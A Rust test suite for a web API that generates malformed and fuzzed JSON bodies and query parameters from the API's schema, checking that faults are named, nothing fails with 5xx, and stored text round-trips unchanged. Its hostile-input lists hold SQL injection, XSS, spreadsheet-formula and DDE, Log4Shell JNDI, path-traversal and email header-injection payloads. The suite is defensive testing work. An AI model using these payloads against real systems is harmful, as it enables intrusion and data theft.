//! What may come as a body, and as a parameter: for every operation that takes JSON, bodies made from its schema in the document, broken in
//! one place or hostile all over. A broken one names its field and writes nothing, a hostile one never ends in 5xx, and
//! what is taken comes back as it was sent.
//!
//! That answers are documented, errors are problems and nothing ends in 5xx is asserted by the harness.

use crate::{
    contract::{DOCUMENT, OPERATIONS, Operation},
    harness::{Client, TestApp},
    permissions::path_to_nothing,
};
use madoguchi::access::{Permission, Role};
use proptest::{
    collection::vec,
    prelude::{Just, any},
    prop_oneof,
    sample::select,
    strategy::{BoxedStrategy, Strategy, ValueTree},
    test_runner::TestRunner,
};
use serde_json::{Map, Value, json};
use sqlx::{AssertSqlSafe, Row};
use std::collections::BTreeMap;
use uuid::Uuid;

/// Bodies that are tried of every operation.
const ROUNDS: usize = 16;

/// Texts that mean something to somebody on the way: SQL, HTML, spreadsheets, templates, shells, terminals, paths. All are
/// as they are stored, so that they have to come back as they are.
const HOSTILE: [&str; 16] = [
    "'; drop table case_file; --",
    "\\'; select pg_sleep(9) --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"https://example.jp\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%_\\%_%",
    "${jndi:ldap://example.jp/a}",
    "{\"$ne\": null}",
    "../../../../etc/passwd",
    "髙﨑 﨑塚 𠮷野家 㐂",
    "שלום عليكم",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "葛\u{E0100}飾区",
    "Z\u{0324}\u{030D}x\u{0335}\u{030E}lgo",
    "null",
];

/// The types of free text on one line or more.
const FREE: [&str; 6] = ["Line80", "Line200", "Name", "Subject", "Body", "Reason"];

fn resolve(schema: &Value) -> &Value {
    if let Some(name) = schema["$ref"].as_str() {
        let name = name.rsplit('/').next().unwrap();
        return resolve(&DOCUMENT["components"]["schemas"][name]);
    }
    match schema["oneOf"].as_array().map(Vec::as_slice) {
        Some([choice, Value::Object(null)]) if null.get("type") == Some(&json!("null")) => {
            resolve(choice)
        }
        _ => schema,
    }
}

/// The name of the schema's type, where it has one.
fn name_of(schema: &Value) -> Option<&str> {
    let choice = schema["oneOf"].get(0).unwrap_or(schema);
    choice["$ref"].as_str()?.rsplit('/').next()
}

/// `string`, `integer` and so on; nothing where the schema is a choice.
fn kind(schema: &Value) -> &str {
    match &schema["type"] {
        Value::String(kind) => kind,
        Value::Array(kinds) => kinds
            .iter()
            .filter_map(Value::as_str)
            .find(|kind| *kind != "null")
            .unwrap_or_default(),
        _ => "",
    }
}

fn properties(schema: &Value) -> impl Iterator<Item = (&String, &Value)> {
    schema["properties"].as_object().into_iter().flatten()
}

/// Something that the schema takes, with all fields.
fn sample(schema: &Value) -> Value {
    let schema = resolve(schema);
    let example = schema["examples"].get(0).or(schema.get("example"));
    if let Some(value) = schema["enum"].get(0).or(example) {
        return value.clone();
    }
    match (kind(schema), schema["format"].as_str()) {
        ("string", Some("uuid")) => json!(Uuid::now_v7()),
        ("string", Some("date")) => json!("2026-11-25"),
        ("string", Some("date-time")) => json!("2026-11-25T01:00:00Z"),
        ("string", _) => json!("あ".repeat(schema["minLength"].as_u64().unwrap_or(1) as usize)),
        ("integer" | "number", _) => schema.get("minimum").cloned().unwrap_or(json!(1)),
        ("boolean", _) => json!(true),
        ("array", _) => json!([sample(&schema["items"])]),
        ("object", _) => properties(schema)
            .map(|(name, property)| (name.clone(), sample(property)))
            .collect::<Map<_, _>>()
            .into(),
        // A choice; the first will do.
        _ => schema["oneOf"].get(0).map_or(json!({}), sample),
    }
}

/// Every place of `body` that the schema knows, with its schema.
fn places<'a>(
    schema: &'a Value,
    body: &Value,
    pointer: String,
    found: &mut Vec<(String, &'a Value)>,
) {
    let schema = resolve(schema);
    match body {
        Value::Object(members) => {
            for (name, property) in properties(schema) {
                if let Some(member) = members.get(name) {
                    places(property, member, format!("{pointer}/{name}"), found);
                }
            }
        }
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                places(&schema["items"], item, format!("{pointer}/{index}"), found);
            }
        }
        _ => {}
    }
    found.push((pointer, schema));
}

/// The operations that take JSON, with the schema of what they take.
fn operations() -> Vec<(&'static Operation, &'static Value)> {
    let all = OPERATIONS.iter().filter_map(|operation| {
        let schema = &operation.value["requestBody"]["content"]["application/json"]["schema"];
        // What a mail service sends is read leniently; its own tests attack it.
        schema["$ref"].is_string().then_some((operation, schema))
    });
    let all: Vec<_> = all.collect();
    assert!(all.len() > 70, "the document has bodies");
    all
}

/// The operation's path, with ids that nothing has.
fn path_of(operation: &Operation) -> String {
    match operation.path.contains("{flag}") {
        // Another word is no flag, and no place where a body is read.
        true => format!("/cases/{}/flags/complaint/settle", Uuid::now_v7()),
        false => path_to_nothing(operation),
    }
}

/// Somebody for every operation.
struct Cast {
    nobody: Client,
    people: Vec<(Role, Client)>,
}

impl Cast {
    async fn of(app: &TestApp) -> Self {
        let (desk, manager) = (app.make_desk().await, app.make_manager().await);
        let people = vec![
            (Role::Admin, app.as_admin()),
            (Role::Supervisor, app.as_supervisor()),
            (Role::Manager, app.as_manager(&manager)),
            (Role::Desk, app.as_desk(&desk)),
            (Role::Auditor, app.as_auditor()),
        ];
        for (_, client) in &people {
            client.get("/me").await.expect(200);
        }
        Self {
            nobody: app.as_nobody(),
            people,
        }
    }

    fn who_may(&self, operation: &Operation) -> &Client {
        let permission = Permission::from_name(operation.permission()).unwrap();
        // Who signs out here shall not be somebody who is needed.
        if permission == Permission::Anyone {
            return &self.nobody;
        }
        let person = self
            .people
            .iter()
            .find(|(role, _)| permission.roles().contains(role));
        &person.expect("one of the cast may do it").1
    }
}

/// How many rows every table has, and how new they are.
async fn rows(app: &TestApp) -> BTreeMap<String, (i64, i64)> {
    let mut db = app.sql().await;
    let names: Vec<String> = sqlx::query_scalar(
        "select table_name::text from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'",
    )
    .fetch_all(&mut db)
    .await
    .unwrap();
    let mut rows = BTreeMap::new();
    for name in names {
        let sql = format!(
            r#"select count(*), coalesce(sum(xmin::text::bigint), 0)::bigint from "{name}""#
        );
        let row = sqlx::query(AssertSqlSafe(sql))
            .fetch_one(&mut db)
            .await
            .unwrap();
        rows.insert(name, (row.get(0), row.get(1)));
    }
    rows
}

/// Something that is not of this kind.
fn of_another_kind(kind: &str) -> Value {
    match kind {
        "string" | "integer" | "number" | "boolean" => json!({ "x": [1] }),
        _ => json!(true),
    }
}

fn set(body: &Value, pointer: &str, value: Value) -> Value {
    let mut broken = body.clone();
    *broken.pointer_mut(pointer).unwrap() = value;
    broken
}

/// Bodies with one fault each, and the field that has it.
fn broken(schema: &Value) -> Vec<(String, Value)> {
    let body = sample(schema);
    let mut all = Vec::new();
    places(schema, &body, String::new(), &mut all);
    let mut broken = Vec::new();
    for (pointer, schema) in &all {
        let kind = kind(schema);
        if kind.is_empty() {
            continue;
        }
        if !pointer.is_empty() {
            broken.push((pointer.clone(), set(&body, pointer, of_another_kind(kind))));
        }
        if kind == "string" {
            broken.push((pointer.clone(), set(&body, pointer, json!("a\0b"))));
        }
        if schema["additionalProperties"] == false {
            let mut members = body.pointer(pointer).unwrap().clone();
            members["no_such_field"] = json!(1);
            let more = set(&body, pointer, members);
            broken.push((format!("{pointer}/no_such_field"), more));
        }
        for name in schema["required"].as_array().into_iter().flatten() {
            let name = name.as_str().unwrap();
            let mut members = body.pointer(pointer).unwrap().clone();
            members.as_object_mut().unwrap().remove(name);
            broken.push((format!("{pointer}/{name}"), set(&body, pointer, members)));
        }
    }
    broken
}

/// Texts that are no JSON that can be read, with what they are refused as.
fn unreadable() -> Vec<(String, u16)> {
    vec![
        (String::new(), 400),
        ("{".into(), 400),
        ("{\"a\": \"\u{1}\"}".into(), 400),
        // Half a surrogate pair.
        (r#"{"a": "\ud800"}"#.into(), 400),
        (r#"{"a": "\udc00\ud800"}"#.into(), 400),
        (r#"{"a": 1e400}"#.into(), 400),
        (r#"{"a": NaN}"#.into(), 400),
        (
            format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
            400,
        ),
        (
            format!("{}1{}", r#"{"a":"#.repeat(50_000), "}".repeat(50_000)),
            400,
        ),
        (format!(r#"{{"a": "{}"}}"#, "あ".repeat(350_000)), 413),
    ]
}

#[actix_web::test]
async fn a_broken_body_names_its_field_and_writes_nothing() {
    let app = TestApp::start().await;
    let cast = Cast::of(&app).await;
    let before = rows(&app).await;
    let mut faults = Vec::new();
    for (operation, schema) in operations() {
        let client = cast.who_may(operation);
        let path = path_of(operation);
        let call = || client.call(operation.method.clone(), &path);
        for (pointer, body) in broken(schema) {
            let answer = call()
                .body("application/json", body.to_string())
                .if_match("\"1\"")
                .await;
            let is_named = answer.pointers().iter().any(|named| {
                *named == pointer
                    || (!named.is_empty() && pointer.starts_with(&format!("{named}/")))
                    || named.starts_with(&format!("{pointer}/"))
            });
            // The list that is exported reads its filter itself, after the rules between the fields.
            let is_later = operation.id() == "create_export" && pointer == "/filter";
            if answer.status != 422 || !(is_named || is_later) {
                faults.push(format!(
                    "{} {pointer}: {} {:?}",
                    operation.id(),
                    answer.status,
                    answer.pointers()
                ));
            }
        }
        let may_be_absent = operation.value["requestBody"]["required"] == false;
        for (body, status) in unreadable() {
            if body.is_empty() && may_be_absent {
                continue;
            }
            let shown: String = body.chars().take(20).collect();
            let answer = call()
                .body("application/json", body)
                .if_match("\"1\"")
                .await;
            if answer.status != status {
                faults.push(format!("{} {shown}: {}", operation.id(), answer.status));
            }
        }
    }
    assert!(
        faults.is_empty(),
        "{} faults:\n{}",
        faults.len(),
        faults.join("\n")
    );
    assert_eq!(before, rows(&app).await, "a refused body wrote something");
}

/// What may stand behind the question mark.
fn parameters(operation: &'static Operation) -> impl Iterator<Item = &'static Value> {
    let all = operation.value["parameters"].as_array();
    let all = all.into_iter().flatten().map(resolve);
    all.filter(|parameter| parameter["in"] == "query")
}

/// Words that the schema of a parameter does not allow.
fn outside(schema: &Value) -> Vec<String> {
    let schema = resolve(schema);
    let mut words = match (kind(schema), schema["format"].as_str()) {
        ("integer" | "number", _) => vec!["many".into(), "1.5".into(), "1e30".into()],
        ("boolean", _) => vec!["perhaps".into()],
        ("string", Some("uuid" | "date" | "date-time")) => vec!["0".into()],
        ("string", _) if schema["enum"].is_array() => vec!["no_such_word".into()],
        _ => Vec::new(),
    };
    let minimum = schema["minimum"].as_i64().map(|least| least - 1);
    let maximum = schema["maximum"].as_i64().map(|most| most + 1);
    words.extend(minimum.iter().chain(&maximum).map(i64::to_string));
    if let Some(most) = schema["maxLength"].as_u64() {
        words.push("あ".repeat(most as usize + 1));
    }
    words
}

#[actix_web::test]
async fn a_parameter_outside_its_bounds_is_named() {
    let app = TestApp::start().await;
    let cast = Cast::of(&app).await;
    let mut faults = Vec::new();
    let mut tried = 0;
    for operation in OPERATIONS.iter() {
        let parameters: Vec<_> = parameters(operation).collect();
        let needed = || parameters.iter().filter(|it| it["required"] == true);
        for parameter in &parameters {
            let name = parameter["name"].as_str().unwrap();
            let mut words: Vec<_> = outside(&parameter["schema"])
                .into_iter()
                .map(Some)
                .collect();
            if parameter["required"] == true {
                words.push(None);
            }
            for word in words {
                tried += 1;
                let mut query = form_urlencoded::Serializer::new(String::new());
                for other in needed().filter(|other| other["name"] != name) {
                    let sample = sample(&other["schema"]);
                    query.append_pair(other["name"].as_str().unwrap(), sample.as_str().unwrap());
                }
                query.extend_pairs(word.iter().map(|word| (name, word)));
                let path = format!("{}?{}", path_of(operation), query.finish());
                let client = cast.who_may(operation);
                let answer = client.call(operation.method.clone(), path).await;
                // A list of what is not there says so first, where it looks at its bounds itself.
                let is_absent = answer.status == 404 && operation.path.contains('{');
                let is_named = answer.pointers() == [format!("/{name}")];
                if !is_absent && (answer.status != 422 || !is_named) {
                    let said = (answer.status, answer.pointers());
                    faults.push(format!("{} {name}={word:.20?}: {said:?}", operation.id()));
                }
            }
        }
    }
    assert!(tried > 300, "{tried}: the document has parameters");
    assert!(
        faults.is_empty(),
        "{} faults:\n{}",
        faults.len(),
        faults.join("\n")
    );
}

/// Something of any shape.
fn anything() -> BoxedStrategy<Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<String>().prop_map(Value::from),
    ];
    leaf.prop_recursive(8, 32, 4, |inner| {
        prop_oneof![
            vec(inner.clone(), 0..4).prop_map(Value::from),
            vec(("[a-z_~/\0]{0,8}", inner), 0..4)
                .prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    })
    .boxed()
}

fn text(schema: &Value) -> BoxedStrategy<Value> {
    let odd = [
        "",
        " ",
        "\u{3000}",
        "a\0b",
        "\u{202E}txt.exe",
        "\u{200B}\u{200D}\u{FEFF}",
        "か\u{3099}ガｶﾞ",
        "e\u{301}",
        "\u{FFFF}",
        "\r\n\r\nBcc: a@example.jp",
        "９９９９-１２-３１",
        "9999-12-31T23:59:59.999999999+23:59",
        "-262143-01-01",
        "0000-00-00",
        "99999999999999999999",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
    ];
    prop_oneof![
        6 => Just(sample(schema)),
        2 => select(&HOSTILE[..]).prop_map(Value::from),
        2 => select(odd.to_vec()).prop_map(Value::from),
        1 => any::<String>().prop_map(Value::from),
        1 => select(vec![80, 81, 200, 201, 2_000, 20_000, 20_001, 100_000]).prop_map(|n| json!("𠮷".repeat(n))),
    ]
    .boxed()
}

fn number(schema: &Value) -> BoxedStrategy<Value> {
    let odd = [
        json!(0),
        json!(-1),
        json!(1.5),
        json!(3.0),
        json!(i32::MAX),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e300),
        json!("1"),
    ];
    prop_oneof![4 => Just(sample(schema)), 2 => select(odd.to_vec()), 1 => any::<i32>().prop_map(Value::from)].boxed()
}

/// Values of the right shape, most of the time, with what nobody should send inside.
fn hostile(schema: &'static Value, is_needed: bool) -> BoxedStrategy<Value> {
    let schema = resolve(schema);
    let value = if let Some(values) = schema["enum"].as_array() {
        select(values.clone()).boxed()
    } else {
        match kind(schema) {
            "string" => text(schema),
            "integer" | "number" => number(schema),
            "boolean" => any::<bool>().prop_map(Value::from).boxed(),
            "array" => vec(hostile(&schema["items"], true), 0..4)
                .prop_map(Value::from)
                .boxed(),
            "object" => object(schema),
            _ => Just(sample(schema)).boxed(),
        }
    };
    let odd = if is_needed { 1 } else { 3 };
    prop_oneof![30 => value, odd => Just(Value::Null), 1 => anything()].boxed()
}

fn object(schema: &'static Value) -> BoxedStrategy<Value> {
    let required = schema["required"].as_array();
    let is_required =
        |name: &str| required.is_some_and(|names| names.iter().any(|other| other == name));
    let members: Vec<_> = properties(schema)
        .map(|(name, property)| {
            let is_needed = is_required(name);
            let chance = if is_needed { 0.98 } else { 0.5 };
            let value = hostile(property, is_needed);
            (
                Just(name.clone()),
                proptest::option::weighted(chance, value),
            )
        })
        .collect();
    members
        .prop_map(|members| {
            let present = members
                .into_iter()
                .filter_map(|(name, value)| Some((name, value?)));
            Value::Object(present.collect())
        })
        .boxed()
}

#[actix_web::test]
async fn a_hostile_body_is_never_our_fault() {
    let app = TestApp::start().await;
    let cast = Cast::of(&app).await;
    let desk = app.make_desk().await;
    let case = app.make_accepted_case(&desk).await;
    let mut runner = TestRunner::deterministic();
    let mut taken = 0;
    for (operation, schema) in operations() {
        // It would call the addresses that it is given.
        if operation.id() == "create_webhook" {
            continue;
        }
        let path = path_of(operation);
        let path = match operation.path.strip_prefix("/api/v1/cases/{id}") {
            Some(rest) if !rest.contains('{') => format!("/cases/{}{rest}", case.id()),
            _ => path,
        };
        let bodies = hostile(schema, true);
        for _ in 0..ROUNDS {
            let body = bodies.new_tree(&mut runner).unwrap().current();
            let answer = cast
                .who_may(operation)
                .call(operation.method.clone(), &path)
                .body("application/json", body.to_string())
                .if_match("\"1\"")
                .await;
            taken += usize::from(answer.status < 300);
            let is_nameless =
                answer["type"] == "/problems/validation" && answer.pointers().is_empty();
            assert!(!is_nameless, "{body}: {:#}", answer.json);
        }
    }
    assert!(
        taken > 20,
        "only {taken} bodies were taken: they are too odd to get anywhere"
    );
}

/// Puts the text into every free text of the body, and says where.
fn with_text(schema: &Value, body: &Value, text: &str) -> (Value, Vec<String>) {
    fn walk(schema: &Value, body: &mut Value, pointer: &str, text: &str, put: &mut Vec<String>) {
        if let Value::String(old) = body
            && name_of(schema).is_some_and(|name| FREE.contains(&name))
        {
            *old = text.to_owned();
            put.push(pointer.to_owned());
        }
        let schema = resolve(schema);
        match body {
            Value::Object(members) => {
                for (name, member) in members {
                    let below = format!("{pointer}/{name}");
                    walk(&schema["properties"][name], member, &below, text, put);
                }
            }
            Value::Array(items) => {
                for (index, item) in items.iter_mut().enumerate() {
                    let below = format!("{pointer}/{index}");
                    walk(&schema["items"], item, &below, text, put);
                }
            }
            _ => {}
        }
    }
    let (mut body, mut put) = (body.clone(), Vec::new());
    walk(schema, &mut body, "", text, &mut put);
    (body, put)
}

#[actix_web::test]
async fn what_is_taken_comes_back_as_it_was_sent() {
    let app = TestApp::start().await;
    let (desk, manager) = (app.make_desk().await, app.make_manager().await);
    let case = app.make_consulting_case(&desk, &manager).await;
    let schema_of = |id: &str| {
        let (_, schema) = operations()
            .into_iter()
            .find(|(operation, _)| operation.id() == id)
            .unwrap();
        schema
    };
    let mut compared = 0;
    for text in HOSTILE {
        let n = app.next();
        let made = [
            (
                "create_desk",
                "/desks".to_owned(),
                json!({ "code": format!("d-{n}"), "name": "x", "phone": "017-722-0000" }),
            ),
            (
                "create_manager",
                "/managers".to_owned(),
                json!({
                    "name": "x", "firm": "x", "qualifications": ["x"], "topics": ["ict"], "prefecture_codes": ["02"],
                    "modes": ["online"], "monthly_capacity": 5,
                }),
            ),
            (
                "create_enterprise",
                "/enterprises".to_owned(),
                app.company(),
            ),
            ("create_case", "/cases".to_owned(), app.case_request()),
            (
                "write_note",
                format!("/cases/{}/notes", case.id()),
                json!({ "body": "x" }),
            ),
            (
                "add_absence",
                format!("/managers/{}/absences", manager.id()),
                json!({ "starts_at": "2027-01-05T00:00:00Z", "ends_at": "2027-01-06T00:00:00Z", "reason": "x" }),
            ),
        ];
        for (id, path, body) in made {
            let (body, put) = with_text(schema_of(id), &body, text);
            let answer = app.as_admin().post(&path, body.clone()).await.expect(201);
            // Notes and absences are read in lists only.
            let is_read = !matches!(id, "write_note" | "add_absence");
            let read = match is_read {
                true => Some(app.as_admin().get(answer.location()).await.expect(200)),
                false => None,
            };
            for pointer in put {
                for json in [Some(&answer.json), read.as_ref().map(|read| &read.json)] {
                    if let Some(value) = json.and_then(|json| json.pointer(&pointer)) {
                        assert_eq!(value, text, "{id} {pointer}");
                        compared += 1;
                    }
                }
            }
        }
    }
    assert!(
        compared > 10 * HOSTILE.len(),
        "only {compared} texts came back"
    );
}

#[actix_web::test]
async fn a_whole_number_is_an_integer_however_it_is_written() {
    let app = TestApp::start().await;
    let (desk, manager) = (app.make_desk().await, app.make_manager().await);
    let case = app.make_consulting_case(&desk, &manager).await;
    let path = format!("/cases/{}/limit", case.id());
    for (written, limit) in [("4", 4), ("5.0", 5), ("6e0", 6), ("0.7e1", 7)] {
        let body = format!(r#"{{"limit": {written}, "reason": "x"}}"#);
        let call = app.as_admin().post(&path, json!({}));
        let answer = call.body("application/json", body).await.expect(200);
        assert_eq!(answer["consultations"]["limit"], limit, "{written}");
    }
    for refused in ["4.5", "1e30", "9007199254740993.0"] {
        let body = format!(r#"{{"limit": {refused}, "reason": "x"}}"#);
        let call = app.as_admin().post(&path, json!({}));
        call.body("application/json", body)
            .await
            .invalid(&["/limit"]);
    }
}
